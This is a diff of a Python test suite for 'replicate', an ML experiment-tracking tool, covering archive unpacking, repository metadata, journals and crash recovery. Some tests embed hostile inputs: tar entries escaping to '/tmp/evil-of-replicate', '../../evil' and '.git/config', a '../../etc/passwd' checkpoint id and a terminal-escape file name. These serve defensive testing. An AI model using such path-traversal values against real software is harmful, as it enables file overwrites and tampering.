+              tar_block(PACKED_ID + "/" + "l" * 200, b"long"), tar_block(PACKED_ID + "/sub", b"", tarfile.DIRTYPE),
+              tar_block("L", b"/tmp/evil-of-replicate\0", tarfile.GNUTYPE_LONGNAME), tar_block(PACKED_ID + "/.git/config", b"evil")]
+    tar = bytearray(b"".join(data.draw(st.lists(st.sampled_from(blocks), max_size=5))))
+    for _ in range(data.draw(st.integers(0, 3))):
+        position = data.draw(st.integers(0, len(tar)))
+        tar[position:position + data.draw(st.integers(0, 2))] = data.draw(st.binary(max_size=2))
+    for start in range(0, len(tar) - 511, 512) if data.draw(st.booleans()) else ():  # headers with right checksums
+        if tar[start + 257:start + 262] == b"ustar":
+            tar[start + 148:start + 156] = b" " * 8
+            tar[start + 148:start + 156] = b"%06o\0 " % sum(tar[start:start + 512])
+    repository = store_bytes(base, gzip.compress(bytes(tar) + bytes(1024)))
+    target = base / "a" / "b" / "target"
+    target.mkdir(parents=True)
+    before = set(tree(base))
+    with contextlib.suppress(replicate.ReadError, OSError):
+        unpack_all(repository, target)
+    new = [str(path.relative_to(base)) for path in base.rglob("*") if str(path.relative_to(base)) not in before and not path.is_dir()]
+    assert all(path.startswith("a/b/target/") for path in new)
+    assert not [path for path in new if (base / path).is_symlink() or ".git/" in path.lower()]
+    assert not os.path.exists("/tmp/evil-of-replicate")
+
+
+@hypothesis.given(st.dictionaries(st.text(st.characters(blacklist_characters="/\\\0:", blacklist_categories=["Cs"]), min_size=1,
+                                          max_size=20).filter(lambda name: name not in (".", "..") and len(name.encode()) < 200),
+                                  st.binary(max_size=3000), max_size=6), st.booleans())
+def test_packing_any_files_reads_back(tmp_path_factory, files, compress):
+    base = tmp_path_factory.getbasetemp() / "any"
+    shutil.rmtree(str(base), ignore_errors=True)
+    (base / "project").mkdir(parents=True)
+    files = {name: content for name, content in files.items()
+             if not replicate.is_never_saved(name) and name not in replicate.IGNORE_NAMES and not replicate.is_protected(name)}
+    fill(base / "project", files)
+    repository, _ = pack_tree(base, base / "project", compress=compress)
+    assert read_archive(repository) == files
+    assert all(read_one(repository, name) == content for name, content in files.items())
+
+
+@pytest.mark.parametrize("name", ["a\\b", "c:x", "t:/y", ".GIT/config", ".git./x", "git~1", ".Replicate/x"])
+def test_whatever_is_saved_can_be_checked_out(project, tmp_path, name):
+    """A file name that a checkout refuses must not make the others of its archive unreadable."""
+    fill(project, {"weights": b"w", "sub/" + name: b"x", name: b"x"})
+    repository, _ = pack_tree(tmp_path, project)
+    assert read_archive(repository)["weights"] == b"w"
+
+
+def test_the_checkout_command_refuses_a_hostile_archive(project, tmp_path, call):
+    checkpoint = checkpoint_document(PACKED_ID, path="data")
+    write_repository(project / "repo", experiment_document(hex_id("1e"), checkpoints=[checkpoint]))
+    write_archive(project / "repo" / "checkpoints" / (PACKED_ID + ".tar.gz"), PACKED_ID, {"../../evil": b"evil", "data": b"x"})
+    before = tree(tmp_path)
+    code, out, err = call("checkout", "-f", "-o", tmp_path / "out", "abab")
+    assert code == 1 and "ababab" in err and "Traceback" not in err
+    assert tree(tmp_path) == before
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 7  Repository
+# ------------------------------------------------------------------------------------------------------------------
+
+def opened(root):
+    """The repository in a directory, as the program sees it."""
+    return replicate.Repository("file://%s" % root)
+
+
+def listed(root):
+    """{experiment ID: [checkpoint IDs]} as our own listing has it, journals included."""
+    return {item.id: [checkpoint.id for checkpoint in item.checkpoints] for item in opened(root).experiments()}
+
+
+def names_in(directory):
+    """The sorted names in a directory; none if it is not there."""
+    return sorted(os.listdir(str(directory))) if os.path.isdir(str(directory)) else []
+
+
+def wait_until(condition, seconds=30.0):
+    """Poll until condition() is true; returns its value."""
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        value = condition()
+        if value:
+            return value
+        time.sleep(0.01)
+    pytest.fail("waited %s seconds in vain" % seconds)
+
+
+def start_script(source, *arguments, env=None, cwd=None):
+    """A training script that runs beside the test; its output is in pipes."""
+    return subprocess.Popen([sys.executable, "-c", textwrap.dedent(source), *map(str, arguments)], cwd=cwd,
+                            env=dict(os.environ, **(env or {})), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, universal_newlines=True)
+
+
+def finish(process, timeout=90):
+    """(rest of stdout, stderr) of a script once it has ended; it is killed if that takes too long."""
+    killer = threading.Timer(timeout, process.kill)
+    killer.start()
+    err = []
+    reader = threading.Thread(target=lambda: err.append(process.stderr.read()))
+    reader.start()
+    try:
+        try:
+            process.stdin.close()
+        except OSError:
+            pass
+        out = process.stdout.read()  # communicate() would miss what readline() has buffered
+        process.wait()
+        reader.join()
+        return out, err[0]
+    finally:
+        killer.cancel()
+        process.stdout.close()
+        process.stderr.close()
+
+
+def errors_in(text):
+    """The messages on stderr that are neither announcements of experiments nor of checkpoints."""
+    return [line for line in text.splitlines() if line.startswith("═══╡")
+            and not re.match(r"═══╡ (Experiment \w{7}: recording|Checkpoint \w{7} at step|Waiting until)", line)]
+
+
+@pytest.fixture
+def repo(project):
+    """The repository directory of the project."""
+    return project / "repo"
+
+
+@pytest.mark.parametrize("text", ["", "{", "[]", "null", "1", "{}", '{"version":"1"}', '{"version":true}',
+                                  '{"version":0}', '{"version":-1}', '{"version":1.5}', '{"version":NaN}',
+                                  '{"version":null}', "\udcff"])
+def test_a_damaged_repository_json_is_refused(repo, text):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    (repo / "repository.json").write_bytes(text.encode("utf-8", "surrogateescape"))
+    before = tree(repo)
+    with pytest.raises(replicate.CorruptedRepositorySpec):
+        opened(repo).check_version()
+    with pytest.raises(replicate.CorruptedRepositorySpec):
+        replicate.init()
+    done = run("ls")
+    assert done.returncode == 1 and "repository.json" in done.stderr and len(done.stderr.splitlines()) == 1
+    assert tree(repo) == before
+
+
+def test_a_newer_repository_is_refused_and_not_touched(repo):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    (repo / "repository.json").write_text('{"version":2}')
+    before = tree(repo)
+    for use in (replicate.init, replicate.experiments.list, lambda: replicate.experiments.get("1e")):
+        with pytest.raises(replicate.IncompatibleRepositoryVersion, match="version 2"):
+            use()
+    for arguments in (["ls"], ["rm", "-f", "1e"], ["show", "1e"], ["checkout", "1e", "-f"]):
+        done = run(*arguments)
+        assert done.returncode == 1 and "version 2" in done.stderr
+    assert tree(repo) == before
+
+
+def test_a_missing_repository_json_is_a_repository_not_yet_written_to(repo):
+    assert opened(repo).check_version() is False
+    assert opened(repo).experiments() == []
+    assert not repo.exists()
+    write_repository(repo)
+    assert opened(repo).check_version() is True
+    (repo / "repository.json").write_text('{ "version" : 1, "more": [] }\n')
+    assert opened(repo).check_version() is True
+
+
+def bad_documents():
+    """(file name, content) of documents that must be passed over."""
+    def broken(letter, **fields):
+        return hex_id(letter) + ".json", json.dumps(dict(experiment_document(hex_id(letter)), **fields)).encode()
+
+    def with_checkpoint(letter, **fields):
+        return broken(letter, checkpoints=[dict(checkpoint_document(hex_id("cc")), **fields)])
+
+    whole = json.dumps(experiment_document(hex_id("a0"))).encode()
+    return [
+        (hex_id("a0") + ".json", whole[:len(whole) // 2]),
+        (hex_id("a1") + ".json", b""),
+        (hex_id("a2") + ".json", b"[]"),
+        (hex_id("a3") + ".json", b"\xff\xfe{}"),
+        (hex_id("a4") + ".json", json.dumps(experiment_document(hex_id("1e"))).encode()),
+        (hex_id("a5") + ".json", b"[" * 200000),
+        (hex_id("a6") + ".json", b'{"id": "%s", "created": "2006-01-02T14:54:05Z", "params": {"x": NaN}}' %
+         hex_id("a6").encode()),
+        (hex_id("a7") + ".json", b'{"id": "%s", "created": "2006-01-02T14:54:05Z", "params": {"x": %s1%s}}' %
+         (hex_id("a7").encode(), b"[" * 200, b"]" * 200)),
+        broken("a8", params=[1]), broken("a9", created=None), broken("aa", created="yesterday"),
+        broken("ab", host=5), broken("ac", checkpoints={}), broken("ad", checkpoints=[None]),
+        broken("ae", python_packages={"foo": 1}), broken("af", path=["x"]),
+        with_checkpoint("b0", step="3"), with_checkpoint("b1", step=1.5), with_checkpoint("b2", metrics=[]),
+        with_checkpoint("b3", id="../../etc/passwd"), with_checkpoint("b4", primary_metric="loss"),
+        with_checkpoint("b5", primary_metric={"name": "loss", "goal": "up"}), with_checkpoint("b6", created=""),
+        broken("b7", checkpoints=[checkpoint_document(hex_id("cc"))] * 2),
+        broken("b8", created="0001-01-01T00:00:00+23:59"), broken("b9", created="9999-12-31T23:59:59-23:59"),
+        broken("ba", created="2006-13-45T99:00:00Z"), with_checkpoint("bb", created="0001-01-01T00:00:00+10:00"),
+        ("notes.txt", b"hello"), ("README.json", b"{}"), (hex_id("bc"), whole), (hex_id("bd") + ".json~", whole),
+        ("evil\x1b[2J.json", b"{}"),
+    ]
+
+
+def test_unreadable_documents_are_named_once_and_the_rest_is_listed(repo):
+    good = [experiment_document(hex_id(letter)) for letter in ("1e", "2e")]
+    write_repository(repo, *good)
+    for name, content in bad_documents():
+        (repo / "metadata/experiments" / name).write_bytes(content)
+    for arguments in (["ls", "-q"], ["ls", "-q", "-f", "user = andreas"]):
+        done = run(*arguments)
+        assert done.returncode == 0, done.stderr
+        assert done.stdout.split() == [hex_id("1e"), hex_id("2e")]
+        warnings = done.stderr.splitlines()
+        for name, _ in bad_documents():
+            shown = name.replace("\x1b", "\\x1b") + ":"
+            assert sum(shown in line for line in warnings) == 1, (name, done.stderr)
+        assert len(warnings) == len(bad_documents()) and "\x1b" not in done.stderr
+    assert run("rm", "-f", "1e").returncode == 0
+    assert run("show", "2e").returncode == 0
+
+
+@pytest.mark.parametrize("kind", ["fifo", "directory", "dangling link"])
+def test_what_is_no_file_among_the_documents_neither_hangs_nor_hides_the_rest(repo, kind):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    odd = repo / "metadata/experiments" / (hex_id("a1") + ".json")
+    if kind == "fifo":
+        os.mkfifo(str(odd))
+    elif kind == "directory":
+        odd.mkdir()
+    else:
+        odd.symlink_to("nowhere")
+    done = run("ls", "-q", timeout=20)
+    assert done.returncode == 0 and done.stdout.split() == [hex_id("1e")]
+    if kind == "fifo":  # a directory is no document, and a dangling link is like one that was removed since
+        assert [odd.name in line for line in done.stderr.splitlines()] == [True]
+
+
+@pytest.mark.parametrize("beat", [b"", b"[]", b"{}", b"null", b"\xff", b'{"last_heartbeat": 5}',
+                                  b'{"last_heartbeat": "soon"}', b'{"last_heartbeat": "0001-01-01T00:00:00+23:59"}',
+                                  b'{"last_heartbeat": "9999-12-31T23:59:59-23:59"}', b"[" * 100000])
+def test_an_unreadable_heartbeat_means_stopped(repo, beat):
+    write_repository(repo, experiment_document(hex_id("1e")), experiment_document(hex_id("2e")), running=[hex_id("2e")])
+    (repo / "metadata/heartbeats" / (hex_id("1e") + ".json")).write_bytes(beat)
+    assert opened(repo).running() == {hex_id("2e")}
+    assert not opened(repo).is_running(hex_id("1e"))
+
+
+def test_running_means_a_heartbeat_of_the_last_thirty_seconds(repo):
+    write_repository(repo, *[experiment_document(hex_id(letter)) for letter in ("1e", "2e", "3e")])
+    for letter, age in (("1e", 20), ("2e", 40)):
+        beat = datetime.datetime.fromtimestamp(time.time() - age, datetime.timezone(datetime.timedelta(hours=5)))
+        (repo / "metadata/heartbeats" / (hex_id(letter) + ".json")).write_text(
+            json.dumps({"experiment_id": hex_id(letter), "last_heartbeat": beat.isoformat("T", "microseconds")}))
+    assert run("ps", "-q").stdout.split() == [hex_id("1e")]
+
+
+class VanishingStorage(replicate.DiskStorage):
+    """A directory whose documents are deleted by somebody between listing and reading, all but the first."""
+
+    def list(self, folder):
+        entries = sorted(super().list(folder), key=lambda entry: entry.key)
+        if folder == "metadata/experiments/":
+            for entry in entries[1:]:
+                os.unlink(self.path(entry.key))
+        return iter(entries)
+
+
+def test_documents_deleted_while_listing_are_no_error(repo, capsys):
+    write_repository(repo, *[experiment_document(hex_id("%02x" % number)) for number in range(60)])
+    repository = replicate.Repository("file://%s" % repo, VanishingStorage(str(repo)))
+    assert [item.id for item in repository.experiments()] == [hex_id("00")]
+    assert capsys.readouterr().err == ""
+
+
+def test_listing_while_others_write_and_delete_never_warns(repo, capsys):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    folder, halt = repo / "metadata/experiments", threading.Event()
+
+    def churn():
+        while not halt.is_set():
+            for number in range(20):
+                document = experiment_document(hex_id("%02x" % (number + 32)))
+                opened(repo).storage.write("metadata/experiments/%s.json" % document["id"],
+                                           json.dumps(document).encode())
+            for number in range(20):
+                (folder / (hex_id("%02x" % (number + 32)) + ".json")).unlink()
+
+    thread = threading.Thread(target=churn)
+    thread.start()
+    try:
+        seen = [len(opened(repo).experiments()) for _ in range(60)]
+    finally:
+        halt.set()
+        thread.join()
+    assert min(seen) >= 1 and capsys.readouterr().err == ""
+    assert names_in(repo / "tmp") == []
+
+
+def test_unknown_keys_survive_adding_and_removing_checkpoints(repo):
+    old = dict(checkpoint_document(hex_id("2c"), metrics={"loss": 0.5}), color="red")
+    other = dict(checkpoint_document(hex_id("3c"), step=1), nested={"a": [1, None, {"b": "ü\u2028"}]})
+    document = experiment_document(hex_id("1e"), checkpoints=[old, other], git={"commit": "abc", "dirty": True},
+                                   params={"x": "[NaN]", "s": "None", "big": 12345678901234567890}, gpus=["A100"])
+    write_repository(repo, document)
+    experiment = replicate.experiments.get("1e")
+    added = experiment.checkpoint(metrics={"loss": 0.1}, quiet=True)
+    experiment.stop()
+    again = json.loads(json.dumps(document))
+    again["checkpoints"].append(added.to_json())
+    assert stored_documents(repo) == [again]
+    assert added.step == 2
+    assert run("rm", "-f", hex_id("2c")).returncode == 0
+    del again["checkpoints"][0]
+    assert stored_documents(repo) == [again]
+    experiment.checkpoint(metrics={"loss": 0.2}, quiet=True)
+    experiment.stop()
+    assert stored_documents(repo)[0]["git"] == {"commit": "abc", "dirty": True}
+    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]][:2] == [hex_id("3c"), added.id]
+
+
+@pytest.mark.parametrize("checkpoints", [None, [], "absent"])
+def test_a_document_without_checkpoints_takes_the_first(repo, checkpoints):
+    document = experiment_document(hex_id("1e"), zebra=": [", **{"aaa": {"checkpoints": ": null"}})
+    document["checkpoints"] = checkpoints
+    if checkpoints == "absent":
+        del document["checkpoints"]
+    write_repository(repo, document)
+    experiment = replicate.experiments.get("1e")
+    made = [experiment.checkpoint(metrics={"n": number}, quiet=True).to_json() for number in range(3)]
+    experiment.stop()
+    assert stored_documents(repo) == [dict(document, checkpoints=made)]
+
+
+def test_the_document_has_the_keys_and_the_look_of_the_format(repo):
+    with replicate.init(params={"x": 1, "bad": float("nan"), "up": float("inf"), "down": -float("inf")},
+                        quiet=True) as experiment:
+        experiment.checkpoint(metrics={"loss": float("nan")}, primary_metric=("loss", "minimize"), quiet=True)
+    text = (repo / "metadata/experiments" / (experiment.id + ".json")).read_text()
+    document = json.loads(text, parse_constant=lambda name: pytest.fail(name))
+    assert set(document) >= {"id", "created", "params", "host", "user", "config", "command", "path", "python_version",
+                             "python_packages", "replicate_version", "checkpoints"}
+    assert document["params"] == {"x": 1, "bad": "[NaN]", "up": "[+Infinity]", "down": "[-Infinity]"}
+    assert document["config"] == {"repository": "file://%s" % repo, "storage": ""}
+    assert document["path"] is None and document["replicate_version"] == replicate.__version__
+    assert document["python_version"] == "%d.%d.%d" % sys.version_info[:3]
+    assert document["python_packages"]["pytest"] == pytest.__version__
+    assert re.fullmatch("[0-9a-f]{64}", document["id"])
+    checkpoint, = document["checkpoints"]
+    assert set(checkpoint) == {"id", "created", "metrics", "step", "path", "primary_metric"}
+    assert checkpoint["metrics"] == {"loss": "[NaN]"} and checkpoint["step"] == 0 and checkpoint["path"] is None
+    assert checkpoint["primary_metric"] == {"name": "loss", "goal": "minimize"}
+    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z", moment)
+               for moment in (document["created"], checkpoint["created"]))
+    assert text.startswith('{\n "id": ') and json.dumps(document, indent=1, ensure_ascii=False) == text
+    assert json.loads((repo / "repository.json").read_text()) == {"version": 1}
+
+
+def test_prefixes(repo):
+    first = experiment_document("ab1" + "0" * 61, checkpoints=[checkpoint_document("ab2" + "0" * 61),
+                                                               checkpoint_document("cd1" + "0" * 61)])
+    second = experiment_document("ef1" + "0" * 61, checkpoints=[checkpoint_document("cd12" + "0" * 60)])
+    short = experiment_document("ab")
+    write_repository(repo, first, second)
+    found = opened(repo).find
+    assert found("ab1")[0].id == first["id"] and found("ab1")[1] is None
+    assert found("ab2")[0].id == first["id"] and found("ab2")[1].id == "ab2" + "0" * 61
+    assert found("cd12")[0].id == second["id"]
+    for prefix, words in (("zz", "not found: zz"), ("", "empty"), ("ab", "ambiguous"), ("cd1", "ambiguous"),
+                          ("AB1", "not found"), (first["id"] + "0", "not found"), ("*", "not found"),
+                          ("../", "not found")):
+        with pytest.raises(replicate.DoesNotExist, match=words):
+            found(prefix)
+    with pytest.raises(replicate.DoesNotExist) as caught:
+        found("ab")
+    assert "ab10000" in str(caught.value) and "ab20000" in str(caught.value)
+    write_repository(repo, short)
+    assert found("ab")[0].id == "ab"  # exact
+    with pytest.raises(replicate.DoesNotExist, match="zz"):
+        opened(repo).find_all(["ab1", "zz"])
+
+
+def recorded_pair(project):
+    """Two stopped experiments with files, one checkpoint with and one without files each."""
+    (project / "code.py").write_text("pass\n")
+    made = []
+    for number in range(2):
+        (project / "model").write_text("weights %d" % number)
+        with replicate.init(path="code.py", params={"n": number}, quiet=True) as experiment:
+            experiment.checkpoint(path="model", metrics={"loss": 1}, quiet=True)
+            experiment.checkpoint(metrics={"loss": 2}, quiet=True)
+        made.append(experiment)
+    return made
+
+
+def test_rm_of_an_experiment_leaves_nothing_of_it_and_all_of_the_other(project, repo):
+    first, second = recorded_pair(project)
+    others = {name: data for name, data in tree(repo).items()
+              if first.id not in name and first.checkpoints[0].id not in name}
+    assert len(others) == len(tree(repo)) - 3
+    assert run("rm", "-f", first.id[:10]).returncode == 0
+    assert tree(repo) == others
+    assert run("checkout", "-f", second.checkpoints[0].id).returncode == 0
+
+
+def test_rm_of_a_checkpoint_removes_its_file_and_its_entry(project, repo):
+    first, second = recorded_pair(project)
+    before = {item["id"]: item for item in stored_documents(repo)}
+    files = tree(repo)
+    assert run("rm", "-f", first.checkpoints[0].id[:10]).returncode == 0
+    after = {item["id"]: item for item in stored_documents(repo)}
+    assert after[second.id] == before[second.id]
+    before[first.id]["checkpoints"].pop(0)
+    assert after[first.id] == before[first.id]
+    assert set(files) - set(tree(repo)) == {"checkpoints/%s.tar.gz" % first.checkpoints[0].id}
+    assert not set(tree(repo)) - set(files)
+
+
+def test_rm_that_cannot_finish_keeps_the_document_and_can_be_run_again(project, repo):
+    first, second = recorded_pair(project)
+    stuck = repo / "checkpoints" / (first.checkpoints[0].id + ".tar.gz")
+    stuck.unlink()
+    (stuck / "x").mkdir(parents=True)
+    done = run("rm", "-f", first.id)
+    assert done.returncode == 1 and str(stuck) in done.stderr and "Traceback" not in done.stderr
+    assert {item["id"] for item in stored_documents(repo)} == {first.id, second.id}
+    shutil.rmtree(str(stuck))
+    assert run("rm", "-f", first.id).returncode == 0
+    assert not [name for name in tree(repo) if first.id in name or first.checkpoints[0].id in name]
+
+
+def test_rm_killed_anywhere_can_be_run_again(project, repo):
+    """The process dies just before its first, second, third... removal; the document must outlive everything else."""
+    killed_rm = """
+        import os, signal, sys, replicate
+        left, unlink = int(sys.argv[1]), os.unlink
+        def count(path, *more, **named):
+            global left
+            left -= 1
+            if left < 0:
+                os.kill(os.getpid(), signal.SIGKILL)
+            unlink(path, *more, **named)
+        os.unlink = count
+        sys.exit(replicate.main(["rm", "-f", sys.argv[2]]))
+        """
+    experiment = recorded_pair(project)[0]
+    ids = [experiment.id] + [checkpoint.id for checkpoint in experiment.checkpoints]
+    (repo / "tmp" / (ids[1] + ".tar.gz.0123")).write_bytes(b"left by a killed process")
+    backup = project / "backup"
+    shutil.copytree(str(repo), str(backup))
+    for count in range(30):
+        shutil.rmtree(str(repo))
+        shutil.copytree(str(backup), str(repo))
+        done = run_script(killed_rm, count, experiment.id, check=False)
+        left = [name for name in tree(repo) if any(item in name for item in ids)]
+        if done.returncode == 0:
+            break
+        assert done.returncode == -signal.SIGKILL
+        if [name for name in left if not name.startswith(("metadata/experiments", "tmp/%s.json.lock" % ids[0]))]:
+            assert experiment.id in listed(repo)
+        if experiment.id in listed(repo):
+            again = run("rm", "-f", experiment.id)
+            assert again.returncode == 0, again.stderr
+            assert not [name for name in tree(repo) if any(item in name for item in ids)]
+    assert count >= 4 and left == []
+
+
+def test_rm_takes_the_lock_file_that_a_killed_process_left(repo):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    (repo / "tmp").mkdir()
+    (repo / "tmp" / (hex_id("1e") + ".json.lock")).write_bytes(b"")
+    assert run("rm", "-f", "1e").returncode == 0
+    assert list(tree(repo)) == ["repository.json"]
+
+
+def test_a_document_that_is_being_updated_is_not_put_back_after_its_removal(repo):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    inside, go_on = threading.Event(), threading.Event()
+
+    def slow_change(old):
+        inside.set()
+        go_on.wait(20)
+        return old + b" "
+
+    updating = threading.Thread(target=opened(repo).storage.update, args=(replicate.document_key(hex_id("1e")),
+                                                                          slow_change))
+    updating.start()
+    assert inside.wait(20)
+    removing = threading.Thread(target=lambda: opened(repo).remove_experiment(opened(repo).find("1e")[0]))
+    removing.start()
+    removing.join(0.3)  # either it waits for the other, or it is through
+    go_on.set()
+    updating.join(20)
+    removing.join(20)
+    assert stored_documents(repo) == []
+
+
+def test_deleting_right_after_a_checkpoint_leaves_nothing(project, repo):
+    (project / "model").write_bytes(b"text " * 100000)
+    for number in range(60):
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(path="model" if number % 3 == 0 else None, metrics={"n": number}, quiet=True)
+        experiment.delete()
+    wait_until(lambda: not [item for item in threading.enumerate() if item.name.startswith("replicate-")
+                            and item.name != "replicate-worker"])
+    assert list(tree(repo)) == ["repository.json"]
+
+
+LEAVES_A_JOURNAL = """
+    import json, os, signal, sys, time, replicate
+    experiment = replicate.init(quiet=True)
+    experiment.checkpoint(metrics={"n": 0}, quiet=True)
+    document = "repo/metadata/experiments/%s.json" % experiment.id
+    while len(json.load(open(document))["checkpoints"]) < 1 or os.listdir("repo/journals"):
+        time.sleep(0.001)
+    experiment.checkpoint(metrics={"n": 1}, quiet=True)
+    experiment.checkpoint(metrics={"n": 2}, quiet=True)
+    print(experiment.id, flush=True)
+    os.kill(os.getpid(), getattr(signal, sys.argv[1]))
+    time.sleep(60)
+    """
+
+
+def test_a_killed_process_s_journal_is_shown_at_once_and_folded_by_the_next_command(repo):
+    done = run_script(LEAVES_A_JOURNAL, "SIGKILL", check=False)
+    assert done.returncode == -signal.SIGKILL
+    assert len(stored_documents(repo)[0]["checkpoints"]) == 1 and len(names_in(repo / "journals")) == 1
+    assert [len(ids) for ids in listed(repo).values()] == [3]
+    assert [item.metrics for item in replicate.experiments.list()[0].checkpoints] == [{"n": 0}, {"n": 1}, {"n": 2}]
+    assert len(replicate.experiments.get(done.stdout.strip()).checkpoints) == 3
+    assert len(names_in(repo / "journals")) == 1
+    assert json.loads(run("ls", "--json").stdout)[0]["num_checkpoints"] == 3
+    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 0}, {"n": 1}, {"n": 2}]
+    assert names_in(repo / "journals") == names_in(repo / "tmp") == []
+
+
+def test_a_live_process_s_journal_is_shown_but_left_to_it(repo):
+    process = start_script(LEAVES_A_JOURNAL, "SIGSTOP")
+    try:
+        process.stdout.readline()
+        wait_until(lambda: os.waitid(os.P_PID, process.pid, os.WSTOPPED | os.WNOHANG | os.WNOWAIT))
+        journals = names_in(repo / "journals")
+        assert len(journals) == 1
+        assert json.loads(run("ls", "--json").stdout)[0]["num_checkpoints"] == 3
+        assert names_in(repo / "journals") == journals and len(stored_documents(repo)[0]["checkpoints"]) == 1
+        process.send_signal(signal.SIGCONT)
+        wait_until(lambda: len(stored_documents(repo)[0]["checkpoints"]) == 3)
+        wait_until(lambda: names_in(repo / "journals") == [])
+    finally:
+        process.kill()
+        finish(process)
+
+
+def test_torn_and_foreign_lines_of_a_journal_are_passed_over(repo):
+    write_repository(repo, experiment_document(hex_id("1e"), checkpoints=[checkpoint_document(hex_id("1c"))]))
+    (repo / "journals").mkdir()
+    lines = [json.dumps({"checkpoint": checkpoint_document(hex_id("2c"))}),
+             json.dumps({"checkpoint": checkpoint_document(hex_id("3c"))})[:60], "null", "[]", "{}", "\0\0\0", "5",
+             json.dumps({"checkpoint": dict(checkpoint_document(hex_id("4c")), step="x")}),
+             json.dumps({"checkpoint": checkpoint_document(hex_id("1c"))}),
+             json.dumps({"checkpoint": checkpoint_document(hex_id("5c"))}),
+             json.dumps({"checkpoint": checkpoint_document(hex_id("6c"))}), json.dumps({"removed": hex_id("5c")}),
+             json.dumps({"checkpoint": checkpoint_document(hex_id("7c"))})[:-1]]
+    (repo / "journals" / (hex_id("1e") + ".abcd.jsonl")).write_text("\n".join(lines))
+    (repo / "journals" / (hex_id("2e") + ".abcd.jsonl")).write_text(lines[0])  # of an experiment that is gone
+    (repo / "journals" / "notes.txt").write_text("not ours")
+    expected = [hex_id("1c"), hex_id("2c"), hex_id("6c")]
+    assert listed(repo) == {hex_id("1e"): expected}
+    done = run("ls", "-q")
+    assert done.stdout.split() == [hex_id("1e")] and done.stderr == ""
+    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == expected
+    assert names_in(repo / "journals") == ["notes.txt"]
+
+
+def test_several_journals_are_merged_in_order_of_time(repo):
+    """A process that was killed while it folded one journal has left the next one too."""
+    storage = replicate.DiskStorage(str(repo))
+    documents = [experiment_document(hex_id("%02x" % number)) for number in range(10)]
+    write_repository(repo, *documents)
+    for document in documents:
+        for number in range(3):
+            journal = replicate.Journal(storage, document["id"])
+            journal.append(json.dumps({"checkpoint": checkpoint_document(hex_id("c%d" % number), step=number,
+                                       created="2006-01-02T15:00:0%dZ" % number)}).encode())
+            journal.close(remove=False)
+    assert [item.checkpoints.step for item in opened(repo).experiments()] == [[0, 1, 2]] * 10
+    assert run("ls").returncode == 0 and names_in(repo / "journals") == []
+    assert [[item["step"] for item in document["checkpoints"]] for document in stored_documents(repo)] == [[0, 1, 2]] * 10
+
+
+def test_rm_of_a_checkpoint_that_is_in_a_journal_only(repo):
+    done = run_script(LEAVES_A_JOURNAL, "SIGKILL", check=False)
+    experiment = opened(repo).experiments()[0]
+    victim = experiment.checkpoints[1]
+    opened(repo).remove_checkpoint(experiment, victim)
+    assert len(names_in(repo / "journals")) == 1
+    assert victim.id not in listed(repo)[done.stdout.strip()] and len(listed(repo)[done.stdout.strip()]) == 2
+    run("ls")
+    assert [item["metrics"]["n"] for item in stored_documents(repo)[0]["checkpoints"]] == [0, 2]
+    assert names_in(repo / "journals") == names_in(repo / "tmp") == []
+
+
+def test_after_rm_nothing_of_a_killed_process_is_left(project, repo):
+    (project / "model").write_bytes(b"0123456789abcdef" * (4 << 20))
+    done = run_script("""
+        import os, signal, time, replicate
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True)
+        while not [name for name in os.listdir("repo/tmp") if ".tar.gz." in name]:
+            time.sleep(0.001)
+        experiment.checkpoint(metrics={"n": 2}, quiet=True)
+        print(experiment.id, flush=True)
+        os.kill(os.getpid(), signal.SIGKILL)
+        """, check=False)
+    assert done.returncode == -signal.SIGKILL
+    assert [name for name in names_in(repo / "tmp") if ".tar.gz." in name]
+    assert run("rm", "-f", done.stdout.strip()).returncode == 0
+    assert list(tree(repo)) == ["repository.json"]
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 8  Recorder
+# ------------------------------------------------------------------------------------------------------------------
+
+@pytest.fixture
+def small_disk(tmp_path):
+    """A function that mounts a disk of so many kilobytes and returns its directory."""
+    mounted = []
+
+    def mount(kilobytes):
+        directory = tmp_path / ("disk%d" % len(mounted))
+        directory.mkdir()
+        done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=%dk" % kilobytes, "tmpfs", str(directory)],
+                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT) if sys.platform == "linux" else None
+        if done is None or done.returncode:
+            pytest.skip("a small disk cannot be mounted here: %s" % (done.stdout.decode().strip() if done else "no Linux"))
+        mounted.append(directory)
+        return directory
+
+    yield mount
+    for directory in mounted:
+        subprocess.run(["umount", "-l", str(directory)])
+
+
+@pytest.mark.parametrize("kind", ["metrics", "random", "text", "directory"])
+@pytest.mark.parametrize("count", [1, 2, 3, 7])
+def test_a_checkpoint_that_was_returned_survives_kill_9(project, repo, kind, count):
+    """The last file is still being compressed when the process dies."""
+    done = run_script("""
+        import os, signal, sys, replicate
+        kind, count = sys.argv[1], int(sys.argv[2])
+        experiment = replicate.init(quiet=True)
+        for number in range(count):
+            path = None
+            if kind == "directory":
+                os.makedirs("model/deep", exist_ok=True)
+                for part in range(30):
+                    with open("model/deep/%d" % part, "w") as file:
+                        file.write("%d %d " % (number, part) * 5000)
+                path = "model"
+            elif kind != "metrics":
+                with open("model", "wb") as file:
+                    file.write((os.urandom(1 << 20) if kind == "random" else b"%06d, " % number) * (
+                        3 if kind == "random" else 1 << 20))
+                os.link("model", "copy%d" % number)
+                path = "model"
+            checkpoint = experiment.checkpoint(path=path, metrics={"n": number, "list": [1, None]}, quiet=True)
+            print(checkpoint.id, flush=True)
+            if kind != "directory" and kind != "metrics":
+                os.unlink("model")
+        os.kill(os.getpid(), signal.SIGKILL)
+        """, kind, count, check=False)
